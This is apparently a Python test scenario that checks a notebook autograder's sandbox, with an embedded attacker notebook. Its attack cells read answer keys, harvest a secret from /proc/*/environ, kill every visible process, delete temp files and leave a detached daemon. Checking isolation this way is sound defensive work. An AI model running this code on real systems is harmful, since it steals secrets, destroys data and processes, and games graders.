"""One isolation scenario, run inside a throw-away container or namespace (never on the host
itself): bystanders, an attacker, then a correct notebook in the same warm worker.

    python scenario.py REPO OUT_JSON [grade options...]

It starts the bystanders that a careless cleanup would harm (a process of the grader's own uid,
files in /tmp, /dev/shm and /var/tmp, a TCP listener on 127.0.0.1 with nobody expected to call),
puts a secret in the grader's environment, grades ``attacker.py`` and then ``solution.py`` with
``--jobs 1`` (one warm worker, in that order), and writes what it observed as JSON. The
attacker turns each attack that works into points, so its score says what got through:

* q1 (sigmoid, ...): the reference, imported or read from the grader's files;
* q4 (softmax): only if it reached the listener;
* q8 (dead_relu_units): only if it found the secret (the grader's environment through
  /proc/*/environ, or its file);
* plus what scores nothing but harms: SIGKILL to every visible process, lower limits and
  priority for every visible process, files deleted in /tmp, /dev/shm, /var/tmp, a detached
  daemon (double fork, setsid) left running, IPC objects left behind.
"""
from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

SECRET = "grader-secret-7d3f9a"

#: Docker-style seccomp profile: Landlock refused (ENOSYS, as a kernel without it answers), and as in
#: Docker's default profile no new namespaces (so the container gives neither `root` nor `userns`).
_NS_FLAGS = (0x00020000, 0x02000000, 0x04000000, 0x08000000, 0x10000000, 0x20000000, 0x40000000)
NO_LANDLOCK = {
    "defaultAction": "SCMP_ACT_ALLOW",
    "syscalls": [
        {"names": ["landlock_create_ruleset", "landlock_add_rule", "landlock_restrict_self"],
         "action": "SCMP_ACT_ERRNO", "errnoRet": 38},
        {"names": ["unshare", "setns", "mount", "umount2", "pivot_root", "open_tree", "move_mount", "fsopen"],
         "action": "SCMP_ACT_ERRNO", "errnoRet": 1},
        {"names": ["clone3"], "action": "SCMP_ACT_ERRNO", "errnoRet": 38},
        *({"names": ["clone"], "action": "SCMP_ACT_ERRNO", "errnoRet": 1,
           "args": [{"index": 0, "value": flag, "valueTwo": flag, "op": "SCMP_CMP_MASKED_EQ"}]} for flag in _NS_FLAGS),
    ],
}

DAEMON_MARK = "4242.5"  # `sleep 4242.5`: the attacker's daemon, found by its command line

ATTACK = r'''
# %%
import glob, os, resource, signal, socket, sys
import numpy as np
REPO, PORT, SECRET, SECRET_FILE = {repo!r}, {port}, {secret!r}, {secret_file!r}
got = {{}}

# %%
# the answer keys: import them, or read their source
for path in [REPO] + glob.glob("/opt/venv/lib/python3*/site-packages") + glob.glob("/usr/lib/python3/dist-packages"):
    sys.path.insert(0, path)
try:
    from reference import forward as ref
    got["keys"] = "import"
except BaseException:
    ref = None
    for candidate in [REPO + "/reference/forward.py"] + glob.glob("/opt/venv/private/reference/forward.py"):
        try:
            source = open(candidate).read()
            got["keys"] = "read " + candidate
        except BaseException:
            pass

# %%
# the network
try:
    s = socket.create_connection(("127.0.0.1", PORT), timeout=2)
    s.sendall(b"attacker")
    got["net"] = True
except BaseException:
    pass

# %%
# the grader's secrets
found = SECRET in repr(dict(os.environ))
try:
    found = found or SECRET in open(SECRET_FILE).read()
except BaseException:
    pass
for env in glob.glob("/proc/*/environ"):
    try:
        found = found or SECRET.encode() in open(env, "rb").read()
    except BaseException:
        pass
if found:
    got["secret"] = True

# %%
# harm: signal, slow down and limit everything it can name (the job may not list /proc)
pids = {{os.getppid(), 1}} | set(range(2, 3000))
try:
    pids |= {{int(p) for p in os.listdir("/proc") if p.isdigit()}}
except BaseException:
    pass
pids.discard(os.getpid())
for pid in sorted(pids):
    for attempt in (lambda: resource.prlimit(pid, resource.RLIMIT_FSIZE, (1024, 1024)),
                    lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (8, 8)),
                    lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
                    lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))):
        try:
            attempt()
        except BaseException:
            pass
for attempt in (lambda: os.setpriority(os.PRIO_USER, 0, 19), lambda: os.setpriority(os.PRIO_PGRP, 0, 19)):
    try:
        attempt()
    except BaseException:
        pass
if os.fork() == 0:  # a sacrificial child does the killing, so this cell's own process goes on
    for pid in sorted(pids):
        try:
            os.kill(pid, signal.SIGKILL)
        except BaseException:
            pass
    try:
        os.kill(-1, signal.SIGKILL)
    except BaseException:
        pass
    os._exit(0)
os.wait()

# %%
# harm: delete and leave files, leave IPC objects
for d in ("/tmp", "/dev/shm", "/var/tmp"):
    for name in glob.glob(d + "/*"):
        try:
            os.remove(name)
        except BaseException:
            pass
    try:
        open(d + "/attacker-was-here", "w").write("x")
    except BaseException:
        pass
try:
    import sysv_ipc  # not installed: ctypes instead
except ImportError:
    import ctypes
    libc = ctypes.CDLL(None)
    libc.shmget(0x5eed, 4096, 0o1666)
    libc.msgget(0x5eed, 0o1666)

# %%
# harm: a detached daemon
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        try:
            os.execv("/bin/sleep", ["sleep", "{mark}"])
        finally:
            os._exit(0)
    os._exit(0)
import time; time.sleep(0.2)

# %%
# points for whatever worked; a function that is not defined scores exactly 0
if "keys" in got:
    def sigmoid(x):
        return 1 / (1 + np.exp(-np.asarray(x, dtype=float)))

if got.get("net"):
    def softmax(z, axis=-1):
        z = np.asarray(z, dtype=float)
        e = np.exp(z - z.max(axis=axis, keepdims=True))
        return e / e.sum(axis=axis, keepdims=True)

if got.get("secret"):
    def dead_relu_units(preacts, threshold=0.01):
        return (np.asarray(preacts) > 0).mean(axis=0) < threshold
'''


def attack_source(repo: str, port: int, secret_file: str, harmless: bool = False) -> str:
    """The attacker as a percent-format script; ``harmless`` leaves out the cells that harm
    (to show, where nothing stops it, that each leak does earn its points)."""
    attack = ATTACK.format(repo=repo, port=port, secret=SECRET, secret_file=secret_file, mark=DAEMON_MARK)
    if harmless:
        attack = "\n# %%".join(c for c in attack.split("\n# %%") if not c.startswith("\n# harm"))
    return attack


def as_notebook(script: str) -> str:
    """The same cells as an nbformat-4 notebook."""
    import nbformat

    cells = [nbformat.v4.new_code_cell(c.strip("\n")) for c in script.split("# %%") if c.strip()]
    return nbformat.writes(nbformat.v4.new_notebook(cells=cells))


def listener() -> tuple[int, list]:
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    calls: list = []

    def serve() -> None:
        while True:
            try:
                conn, _ = server.accept()
                calls.append(conn.recv(64).decode(errors="replace"))
                conn.close()
            except OSError:
                return

    threading.Thread(target=serve, daemon=True).start()
    return server.getsockname()[1], calls


def processes_with(text: str) -> list[int]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                if text in open(f"/proc/{entry}/cmdline", "rb").read().decode(errors="replace"):
                    found.append(int(entry))
            except OSError:
                pass
    return found


def main() -> None:
    repo, out_json, options = sys.argv[1], sys.argv[2], sys.argv[3:]
    work = Path(os.environ.get("SCENARIO_DIR", "/tmp/scenario"))
    (work / "in").mkdir(parents=True, exist_ok=True)
    port, calls = listener()
    secret_file = work / "grader-secret.txt"  # the grader's own file, like a token or a key
    secret_file.write_text(SECRET)
    secret_file.chmod(0o600)
    attack = attack_source(repo, port, str(secret_file), harmless=bool(os.environ.get("SCENARIO_HARMLESS")))
    (work / "in" / "a_attacker.py").write_text(attack)
    (work / "in" / "b_solution.py").write_text((Path(repo) / "tests" / "golden" / "solution.py").read_text())
    files = [Path(d) / f"bystander-{os.getpid()}" for d in ("/tmp", "/dev/shm", "/var/tmp")]
    for f in files:
        f.write_text("keep me")
    bystander = subprocess.Popen(["sleep", "600"])
    env = dict(os.environ, GRADER_SECRET=SECRET)
    started = time.time()
    proc = subprocess.run([sys.executable, "-m", "grader", "grade", str(work / "in"), "--out", str(work / "out"),
                           "--jobs", "1", "--regrade", "--no-report", *options], capture_output=True, text=True,
                          env=env, cwd=repo)
    time.sleep(0.5)
    daemons = processes_with(f"sleep\x00{DAEMON_MARK}")
    records = {}
    for path in sorted((work / "out" / "results").glob("*.json")):
        record = json.loads(path.read_text())["extra_data"] if "extra_data" in path.read_text() else {}
        records[path.stem] = record
    verdict = {
        "exit": proc.returncode, "stderr": proc.stderr[-2000:], "stdout": proc.stdout[-2000:],
        "seconds": round(time.time() - started, 1),
        "bystander_alive": bystander.poll() is None,
        "files_kept": {str(f): f.exists() for f in files},
        "connections": calls, "daemons": daemons,
        "scores": {name: {q: e["score"] for q, e in r.get("exercises", {}).items()} for name, r in records.items()},
        "totals": {name: r.get("score") for name, r in records.items()},
        "statuses": {name: r.get("status") for name, r in records.items()},
        "isolation": {name: r.get("provenance", {}).get("isolation") for name, r in records.items()},
    }
    bystander.kill()
    for pid in daemons:  # inside the throw-away environment only
        try:
            os.kill(pid, 9)
        except OSError:
            pass
    text = json.dumps(verdict, indent=1)
    if out_json == "-":
        print("VERDICT " + json.dumps(verdict))
    else:
        Path(out_json).write_text(text)


if __name__ == "__main__":
    main()
